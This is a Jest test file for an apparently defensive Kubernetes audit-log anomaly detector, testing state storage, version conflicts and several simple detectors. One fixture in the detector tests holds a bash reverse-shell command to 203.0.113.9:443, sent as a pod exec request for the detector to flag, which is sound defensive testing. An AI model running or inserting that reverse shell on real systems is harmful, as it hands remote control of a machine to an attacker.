import { describe, expect, test } from '@jest/globals';
import { decodeIdentity, encodeIdentity } from '../../lib/baseline/codec.ts';
import { newBaseline } from '../../lib/baseline/baseline.ts';
import { identityKey } from '../../lib/engine/state-keys.ts';
import { ConflictError } from '../../lib/store.ts';
import { alice, apiRequest, command, monday, node } from '../lib/requests.ts';
import { StateWithoutPeers, StateWithoutQuarantine } from './hiding-state.ts';
import { anyNewValue, claimsOf, firstSensitiveAct, rules } from './simple-detectors.ts';

const hour = 3_600_000;

describe('without peers', () => {
  test('nothing is kept of those alike, but of the cluster', async () => {
    const state = new StateWithoutPeers();
    const keys = ['peers|c|role', 'kind|c|person', 'cluster|c', 'identity|c|alice'];
    for (const key of keys) await state.write(key, new Uint8Array([1]), 0);
    expect([...(await state.read(keys)).keys()]).toEqual(['cluster|c', 'identity|c|alice']);
  });
});

describe('without quarantine', () => {
  const key = identityKey('c', alice.id);
  const reported = (): Uint8Array => {
    const baseline = newBaseline(alice, 1);
    baseline.traits.set('exec|shop', { first: 1, last: 1, quarantined: 1 });
    return encodeIdentity({ baseline, episode: undefined });
  };

  test('what was reported is known', async () => {
    const state = new StateWithoutQuarantine();
    await state.write(key, reported(), 0);
    const item = (await state.read([key])).get(key);
    expect(decodeIdentity(item?.bytes ?? new Uint8Array()).baseline.traits.get('exec|shop')).toEqual({ first: 1, last: 1 });
  });

  test('no engine takes its own copy for what was read, and none overwrites another', async () => {
    const state = new StateWithoutQuarantine();
    await state.write(key, reported(), 0);
    const version = (await state.read([key])).get(key)?.version ?? 0;
    expect(version).not.toBe(1);
    await state.write(key, reported(), version);
    await expect(state.write(key, reported(), version)).rejects.toThrow(ConflictError);
  });
});

describe('a simple detector', () => {
  const shell = { identity: alice, resource: 'pods/exec', namespace: 'shop', name: 'cart-0', query: command('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1') };
  const at = (hours: number, given: Parameters<typeof apiRequest>[0] = {}) => apiRequest({ auditId: String(hours), time: monday + hours * hour, identity: alice, ...given });

  test('of rules tells of the same again each day, and of nodes never', () => {
    const requests = [at(0), at(1, shell), at(2, shell), at(26, shell), at(27, { ...shell, identity: node })];
    expect(claimsOf(requests, rules(0.01), { learnsFirstDay: false }).map(({ evidence }) => evidence.map(({ auditId }) => auditId))).toEqual([['1', '2'], ['26']]);
  });

  test('of first acts tells of each but once, and not on the first day', () => {
    const plain = { ...shell, query: command('ls') };
    const claims = claimsOf([at(0, plain), at(26, plain), at(27, { resource: 'secrets', name: 'database', verb: 'get', namespace: 'shop' })], firstSensitiveAct(), { learnsFirstDay: true });
    expect(claims.map(({ evidence }) => evidence)).toEqual([[{ auditId: '27' }]]);
  });

  test('of new values tells of another verb, and of nothing known', () => {
    const claims = claimsOf([at(0), at(26), at(50, { verb: 'update' })], anyNewValue(), { learnsFirstDay: true });
    expect(claims.map(({ evidence }) => evidence)).toEqual([[{ auditId: '50' }]]);
  });
});
